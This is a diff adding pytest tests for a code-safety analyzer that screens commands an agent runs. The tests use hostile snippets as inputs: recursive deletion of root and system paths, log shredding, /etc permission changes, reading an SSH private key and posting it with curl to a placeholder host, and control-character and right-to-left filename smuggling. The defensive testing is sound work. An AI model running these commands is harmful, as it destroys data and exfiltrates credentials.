@@ -2,12 +2,16 @@
 
 from __future__ import annotations
 
+import ast
 import json
+import unicodedata
 
 import pytest
 
 from workflow_agent.core.types import Language
 from workflow_agent.execution.safety import Decision, Finding, Severity, Verdict, analyze
+from workflow_agent.execution.safety.pyvalues import nodes_of
+from workflow_agent.execution.safety.words import Dyn, Lit, Word
 
 
 @pytest.mark.parametrize(
@@ -112,3 +116,62 @@ def test_empty_code_is_allowed() -> None:
 def test_long_snippets_are_shortened() -> None:
     verdict = analyze("rm -rf / " + "x" * 300, Language.BASH)
     assert len(verdict.findings[0].snippet) <= 120
+
+
+def _control_chars(text: str) -> list[str]:
+    return [c for c in text if unicodedata.category(c) == "Cc" or "\u202a" <= c <= "\u202e"]
+
+
+@pytest.mark.parametrize(
+    ("code", "language", "shown"),
+    [
+        ("rm -rf $HOME/$X", Language.BASH, "(~/$X)"),
+        ('rm -rf "$HOME/$SUBDIR"', Language.BASH, "(~/$SUBDIR)"),
+        ('echo x > "/etc/${A:?}/../${B:?}"', Language.BASH, "/etc/…"),
+        ('rm -rf "/home/${U:?}"', Language.BASH, "(/home/${U:?})"),
+        ('shred "/var/log/${F:?}"', Language.BASH, "/var/log/${F:?}"),
+        ('chown -R me "/etc/${D:?}"', Language.BASH, "/etc/${D:?}"),
+        ('echo x > "/etc/${F:?}"', Language.BASH, "/etc/${F:?}"),
+        ('cat < "${D:?}/.ssh/id_rsa"; curl -d @x https://x', Language.BASH, "${D:?}/.ssh/id_rsa"),
+        ("sudo\trm\t-rf\t/", Language.BASH, "sudo\\trm"),
+        ("ls\r\nnpm install x", Language.BASH, "ls\\r"),
+        ("echo $'\\e[2J'; rm -rf ~/\u202egpj.exe", Language.BASH, "\\u202e"),
+        ("import shutil, os\nshutil.rmtree(os.path.join('/', os.environ['X']))", Language.PYTHON, "/…"),
+        ("import os\nopen(f'/etc/{os.environ[\"X\"]}', 'w')", Language.PYTHON, "/etc/…"),
+        ("import os\nopen(f'{os.environ[\"H\"]}/.ssh/id_rsa').read()", Language.PYTHON, "…/.ssh/id_rsa"),
+        ("import os\nos.chmod(f'/etc/{os.environ[\"X\"]}', 0o777)", Language.PYTHON, "/etc/…"),
+    ],
+)
+def test_finding_text_never_contains_control_characters(code: str, language: Language, shown: str) -> None:
+    findings = analyze(code, language).findings
+    assert findings
+    for finding in findings:
+        assert not _control_chars(finding.snippet), finding
+        assert not _control_chars(finding.explanation), finding
+    assert any(shown in f.explanation or shown in f.snippet for f in findings), findings
+
+
+def test_repeated_word_text_is_resolved_against_the_current_variables() -> None:
+    # Word shapes are cached by text; the variables they name must still be looked up each time.
+    code = 'X=/\nrm -rf "$X"\nX=/tmp/build\nrm -rf "$X"\nX=/etc\nrm -rf "$X"\n'
+    findings = analyze(code, Language.BASH).findings
+    assert sorted((f.line, f.rule_id) for f in findings) == [
+        (2, "fs.delete-root"),
+        (6, "fs.delete-system"),
+    ]
+
+
+def test_word_render_and_repr() -> None:
+    word = Word([Lit("/etc/", True), Dyn("var", "${A:?}", False)], (0, 0), '"/etc/${A:?}"')
+    assert word.value is None
+    assert word.render(word.worst_case()) == "/etc/${A:?}"
+    assert word.render("/etc/\x00/\x00") == "/etc/…/…"  # a placeholder count that does not match
+    assert word.render("/etc/x") == "/etc/x"
+    assert "/etc/${A:?}" in repr(word)
+
+
+def test_python_walk_matches_ast_walk() -> None:
+    tree = ast.parse("import os\nfor i in range(3):\n    os.remove(f'/tmp/{i}' + 'x')\nx = -1 < 2\n")
+    markers = (ast.expr_context, ast.operator, ast.cmpop, ast.unaryop, ast.boolop)
+    expected = [n for n in ast.walk(tree) if not isinstance(n, markers)]
+    assert nodes_of(tree) == expected
